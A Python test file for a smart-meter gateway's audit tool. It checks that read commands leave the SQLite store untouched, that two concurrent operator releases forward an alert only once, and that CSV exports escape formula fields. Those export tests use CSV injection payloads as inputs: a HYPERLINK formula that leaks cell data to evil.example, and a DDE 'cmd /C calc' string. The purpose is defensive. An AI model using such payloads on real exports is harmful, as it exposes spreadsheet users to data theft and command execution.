"""``duisgw audit`` as a DNO's reconciliation analyst and a DCC operator on a production gateway use it.

* The read commands (``list``, ``show``, ``export``, ``dead list``, ``rejects``) never write the decision
  store they read: on a stopped (killed) gateway's files they leave the database and its ``-wal``
  byte-identical (a read-write open checkpointed the WAL into the database and deleted it), and on a file
  that holds no decision state they write no schema into it.
* The daily export is safe to open in a spreadsheet: a field that a spreadsheet would run as a formula
  (``=``, ``+``, ``-``, ``@``, tab, carriage return first) is written with a leading ``'``.

The stores are a real gateway's (the live demo's work folder, copied per test: ``conftest.work``); the
gateway that "was killed" is a real process running the real :class:`DurableEngine` on them.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from test_audit_export_and_release import AD1_101, audit, configure

PROJECT = Path(__file__).resolve().parents[2]
DAY = "2026-03-02"  # the demo's suppressions


def _env() -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": str(PROJECT)}


def killed_gateway(db: Path) -> None:
    """A gateway process ran on over ``db`` (the real engine and store: its clock ticked a minute on, one
    commit) and was killed before it closed: the commit is in the ``-wal`` only, as on a crashed or
    SIGKILLed production gateway."""
    script = (
        "import os\n"
        "from datetime import timedelta\n"
        "from gateway.engine import EngineConfig, Tick\n"
        "from gateway.guids import GuidSet\n"
        "from gateway.inventory import Inventory\n"
        "from gateway.store import DurableEngine, SqliteStore\n"
        f"d = DurableEngine(SqliteStore({str(db)!r}, checkpoint_interval=0), EngineConfig(), "
        "GuidSet.from_iterable(()), Inventory())\n"
        "d.submit(Tick(d.engine.clock + timedelta(minutes=1)))\n"
        "os._exit(0)\n"
    )
    done = subprocess.run([sys.executable, "-c", script], env=_env(), capture_output=True, text=True,
                          timeout=60, check=False)  # fmt: skip
    assert done.returncode == 0, done.stderr
    wal = db.with_name(db.name + "-wal")
    assert wal.is_file() and wal.stat().st_size > 0


def files_of(db: Path) -> dict[str, bytes]:
    """The database file and its ``-wal`` (the bytes that are the decision record)."""
    return {p.name: p.read_bytes() for p in (db, db.with_name(db.name + "-wal")) if p.exists()}


READ_COMMANDS = [
    ("list",),
    ("list", "--json", "--decision", "suppress"),
    ("show", AD1_101),
    ("show", AD1_101, "--bytes"),
    ("export", "--date", DAY),
    ("export", "--date", DAY, "--tz", "Europe/London"),
    ("dead", "list"),
    ("rejects",),
]


def decision_db(work: Path, layout: str) -> Path:
    """The decision store of the work folder: in the transport store (``state_in_store``, the demo's), or in
    ``state_dir/engine.sqlite3`` (``state_in_store = false``: the demo's decision state copied there)."""
    if layout == "state_in_store":
        return work / "gateway" / "outbox.sqlite3"
    configure(work, "pipeline", "state_in_store = false")
    db = work / "gateway" / "state" / "engine.sqlite3"
    db.parent.mkdir(exist_ok=True)
    db.write_bytes((work / "gateway" / "outbox.sqlite3").read_bytes())
    return db


@pytest.mark.parametrize("layout", ["state_in_store", "state_dir"])
@pytest.mark.parametrize("command", READ_COMMANDS, ids=lambda c: " ".join(c[:3]))
def test_a_read_command_leaves_a_stopped_gateways_store_and_its_wal_byte_identical(
    work: Path, capsys: pytest.CaptureFixture[str], command: tuple[str, ...], layout: str
) -> None:
    db = decision_db(work, layout)
    killed_gateway(db)
    before = files_of(db)
    assert set(before) == {db.name, db.name + "-wal"}
    head = 2 if command[0] == "dead" else 1
    rc, _out, err = audit(capsys, *command[:head], "--config", str(work / "gateway.toml"), *command[head:])
    assert rc in (0, 1), err
    # a read-write open checkpointed the WAL into the database and deleted the -wal on close
    assert files_of(db) == before


def test_export_to_files_leaves_a_stopped_gateways_store_byte_identical(
    work: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    db = decision_db(work, "state_dir")
    killed_gateway(db)
    before = files_of(db)
    rc, out, err = audit(capsys, "export", "--config", str(work / "gateway.toml"), "--date", DAY,
                         "--out-dir", str(tmp_path / "out"))  # fmt: skip
    assert rc == 0, err
    assert "4 suppression(s)" in out
    assert files_of(db) == before


def test_the_reads_see_the_commits_still_in_the_wal(work: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # read-only, not immutable: a commit only in the -wal is read (here: a release recorded by another process)
    db = work / "gateway" / "outbox.sqlite3"
    writer = sqlite3.connect(db, isolation_level=None)
    try:
        writer.execute("PRAGMA wal_autocheckpoint=0")
        writer.execute("UPDATE messages SET status = 'forward' WHERE message_id = ?", (AD1_101,))
        rc, out, err = audit(capsys, "show", AD1_101, "--config", str(work / "gateway.toml"))
        assert rc == 0, err
        assert '"status": "forward"' in out
    finally:
        writer.close()


def test_list_on_a_file_without_decision_state_writes_no_schema_into_it(
    work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    configure(work, "pipeline", "state_in_store = false")
    state = work / "gateway" / "state"
    state.mkdir(exist_ok=True)
    engine_db = state / "engine.sqlite3"
    engine_db.unlink(missing_ok=True)
    engine_db.touch()
    for command in (("list",), ("show", AD1_101), ("export", "--date", DAY)):
        rc, out, err = audit(capsys, command[0], "--config", str(work / "gateway.toml"), *command[1:])
        assert (rc, out) == (2, ""), err
        assert "no decision state" in err
        assert engine_db.stat().st_size == 0  # the schema was written into it
        assert not engine_db.with_name("engine.sqlite3-wal").exists()


# ------------------------------------------------------------------ the export opened in a spreadsheet

SUPPLIER = 0x90B3D51F30010000
ESME_1, CH_1 = 0x00DB000000000001, 0x00DC000000000001  # the demo's meter 1 and its hub (inventory.csv)


def suppress_ad1(work: Path, message_id: str, mpan: str) -> str:
    """The real engine on the demo's store: meter 1 activates firmware, then an AD1 of its hub with these
    (hostile) identity and MPAN texts arrives and is suppressed; its route recorded as the gateway records
    one. The decision's UTC date."""
    from datetime import timedelta

    from archive_support import engine

    from gateway.engine import ActivationRequested, ActivationResponse, Decision, PowerOutage
    from gateway.guids import GuidSet
    from gateway.inventory import Inventory
    from gateway.store import DurableEngine, SqliteStore

    db = work / "gateway" / "outbox.sqlite3"
    engine(db).store.close()
    inventory = Inventory.load_csv(work / "inventory.csv")[0]
    d = DurableEngine(SqliteStore(db), __import__("gateway.engine", fromlist=["EngineConfig"]).EngineConfig(),
                      GuidSet.from_iterable([ESME_1]), inventory)  # fmt: skip
    clock = d.engine.clock
    assert clock is not None
    at = clock + timedelta(seconds=1)
    answered = at + timedelta(seconds=35)
    arrival = at + timedelta(minutes=6)
    d.submit(ActivationRequested(message_id="req-csv", arrival=at, verified=True, verification="ok",
                                 supplier=SUPPLIER, esme=ESME_1, counter=7001, execution_time=None,
                                 is_cancellation=False, seen_at=at), None)  # fmt: skip
    d.submit(ActivationResponse(message_id="rsp-csv", arrival=answered, verified=True, verification="ok",
                                esme=ESME_1, supplier=SUPPLIER, counter=7001, response_time=answered,
                                result=0), None)  # fmt: skip
    out = d.submit(PowerOutage(message_id=message_id, arrival=arrival, verified=True, verification="ok", ch=CH_1,
                               mpan=mpan, start_time=arrival - timedelta(minutes=3, seconds=30)), b"<AD1/>")  # fmt: skip
    d.store.close()
    assert [e.action.value for e in out if isinstance(e, Decision)] == ["suppress"], out
    with contextlib.closing(sqlite3.connect(db)) as conn, conn:
        conn.execute("INSERT INTO routes (message_id, destination, received_at, kind) VALUES (?, 'dno', ?, ?)",
                     (message_id, arrival.isoformat(), "DCCAlertMessage.AD1"))  # fmt: skip
    return arrival.date().isoformat()


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_an_exported_field_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
    work: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    day = suppress_ad1(work, FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0")
    rc, out, err = audit(capsys, "export", "--config", str(work / "gateway.toml"), "--date", day)
    assert rc == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    (row,) = [r for r in rows if r["message_id"].endswith(FORMULA)]
    # a leading ' makes Excel and LibreOffice show the text; the rest of the field is unchanged
    assert row["message_id"] == "'" + FORMULA
    assert row["mpan"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    for r in rows:
        assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in r.values()), r
    # the same in the files a DNO is sent
    rc, _out, err = audit(capsys, "export", "--config", str(work / "gateway.toml"), "--date", day,
                          "--out-dir", str(tmp_path))  # fmt: skip
    assert rc == 0, err
    text = (tmp_path / f"suppressions-{day}-dno.csv").read_text(encoding="utf-8")
    assert ',"\'=HYPERLINK(""http' in text and ",=" not in text and ',"=' not in text  # quoted: it holds "


@pytest.mark.parametrize("lead", ["+", "-", "\t", "\r"])
def test_every_formula_lead_character_is_neutralised(
    work: Path, capsys: pytest.CaptureFixture[str], lead: str
) -> None:
    mid = lead + "1+2|DCCAlertMessage.AD1"
    day = suppress_ad1(work, mid, "1900000000013")
    rc, out, err = audit(capsys, "export", "--config", str(work / "gateway.toml"), "--date", day)
    assert rc == 0, err
    # (a bare carriage return in a field was also written unquoted: the row split in two there)
    ids = [r["message_id"] for r in csv.DictReader(io.StringIO(out, newline=""))]
    assert "'" + mid in ids and mid not in ids


def test_a_field_holding_a_carriage_return_is_quoted_and_the_row_stays_one_row(
    work: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    mid = "90-B3-D5-1F-30-00-00-02:90-B3-D5-1F-30-02-00-00:77\r2026-03-02|DCCAlertMessage.AD1"
    day = suppress_ad1(work, mid, "1900000000013")
    rc, _out, err = audit(capsys, "export", "--config", str(work / "gateway.toml"), "--date", day,
                          "--out-dir", str(tmp_path))  # fmt: skip
    assert rc == 0, err
    raw = (tmp_path / f"suppressions-{day}-dno.csv").read_bytes()
    assert f',"{mid}",'.encode() in raw  # quoted (it was written bare: a reader split the row at the \r)
    assert raw.count(b"\n") == 6 and b"\r\n" not in raw  # the header and five rows; lines end with \n
    with (tmp_path / f"suppressions-{day}-dno.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 5 and rows[-1]["message_id"] == mid and rows[-1]["status"] == "suppressed"


# ------------------------------------------------------------------ release by two operators at once

RESTORATION = "00-DB-00-00-00-00-00-01:90-B3-D5-1F-30-02-00-00:1048577|DeviceAlertMessage.8F36"


def _release_process(work: Path, operator: str) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-m", "gateway", "audit", "release", AD1_101, "--config", str(work / "gateway.toml"),
         "--operator", operator, "--note", f"{operator}: genuine outage, DNO asked"],
        env=_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip


def test_two_operators_releasing_at_once_forward_it_exactly_once_byte_identical(work: Path) -> None:
    db = work / "gateway" / "outbox.sqlite3"
    procs = {name: _release_process(work, name) for name in ("alice", "bob")}
    done = {name: (p.wait(timeout=120), *p.communicate()) for name, p in procs.items()}
    codes = sorted(rc for rc, _out, _err in done.values())
    assert codes == [0, 1], done
    (winner,) = [name for name, (rc, _o, _e) in done.items() if rc == 0]
    (loser,) = [name for name, (rc, _o, _e) in done.items() if rc == 1]
    with contextlib.closing(sqlite3.connect(db)) as conn:
        releases = conn.execute(
            "SELECT message_id, json_extract(record, '$.operator'), json_extract(record, '$.note') FROM decisions "
            "WHERE action = 'release-forward' ORDER BY seq"
        ).fetchall()
        outbox = conn.execute("SELECT message_id, body FROM outbox WHERE message_id IN (?, ?) ORDER BY seq",
                              (AD1_101, RESTORATION)).fetchall()  # fmt: skip
    # one release each (the AD1 and the restoration paired with it), by the operator whose release won
    assert [(m, o) for m, o, _n in releases] == [(AD1_101, winner), (RESTORATION, winner)]
    assert releases[0][2] == f"{winner}: genuine outage, DNO asked"
    # one outbox row each, the AD1 first, its bytes exactly as the DSP sent them
    assert [m for m, _b in outbox] == [AD1_101, RESTORATION]
    assert bytes(outbox[0][1]) == (work / "messages" / "0010-inline.xml").read_bytes()
    # the refused operator is told who released it, when and why (as on shared state), not only "is forward"
    err = done[loser][2]
    assert f"already released by {winner} at " in err
    assert f"(note: {winner}: genuine outage, DNO asked)" in err


# ------------------------------------------------------------------ the day's boundaries (reviewed: as documented)

AD1_102 = "90-B3-D5-1F-30-00-00-02:90-B3-D5-1F-30-02-00-00:102|DCCAlertMessage.AD1"  # held, then suppressed


def _move(db: Path, message_id: str, action: str, at: str) -> None:
    """Move ``message_id``'s ``action`` decision to ``at`` (column and record, as the store writes them)."""
    with contextlib.closing(sqlite3.connect(db)) as conn, conn:
        (seq,) = conn.execute(
            "SELECT seq FROM decisions WHERE message_id = ? AND action = ? ORDER BY seq LIMIT 1",
            (message_id, action),
        ).fetchone()
        conn.execute("UPDATE decisions SET decided_at = ?, record = json_set(record, '$.decided_at', ?) "
                     "WHERE seq = ?", (at, at, seq))  # fmt: skip


def _day(capsys: pytest.CaptureFixture[str], work: Path, day: str, *tz: str) -> dict[str, str]:
    rc, out, err = audit(capsys, "export", "--config", str(work / "gateway.toml"), "--date", day, *tz)
    assert rc in (0, 1), err
    return {r["message_id"]: r["status"] for r in csv.DictReader(io.StringIO(out, newline=""))}


def test_a_suppression_in_the_last_tenth_of_a_second_stays_on_its_day_released_or_not(
    work: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = work / "gateway" / "outbox.sqlite3"
    _move(db, AD1_101, "suppress", "2026-03-02T23:59:59.900000+00:00")
    # held on the 2nd, its hold ended (suppressed) on the 3rd: a row of the 3rd only
    _move(db, AD1_102, "hold", "2026-03-02T23:59:59.950000+00:00")
    _move(db, AD1_102, "release-suppress", "2026-03-03T00:00:00.100000+00:00")
    assert _day(capsys, work, "2026-03-02")[AD1_101] == "suppressed"
    assert AD1_102 not in _day(capsys, work, "2026-03-02")
    assert _day(capsys, work, "2026-03-03") == {AD1_102: "suppressed"}
    # the operator releases AD1 101 (today, by the wall clock): still counted on its suppression day, released
    rc, _out, err = audit(capsys, "release", AD1_101, "--config", str(work / "gateway.toml"), "--operator",
                          "alice", "--note", "DNO asked", "--without-restoration")  # fmt: skip
    assert rc == 0, err
    assert _day(capsys, work, "2026-03-02")[AD1_101] == "released"
    assert AD1_101 not in _day(capsys, work, "2026-03-03")
    # the GB day (GMT in March): the same boundary
    assert _day(capsys, work, "2026-03-02", "--tz", "Europe/London")[AD1_101] == "released"
    assert _day(capsys, work, "2026-03-03", "--tz", "Europe/London") == {AD1_102: "suppressed"}
    # two exports of the same day from the same state are identical, byte for byte
    first = audit(capsys, "export", "--config", str(work / "gateway.toml"), "--date", "2026-03-02")
    assert audit(capsys, "export", "--config", str(work / "gateway.toml"), "--date", "2026-03-02") == first
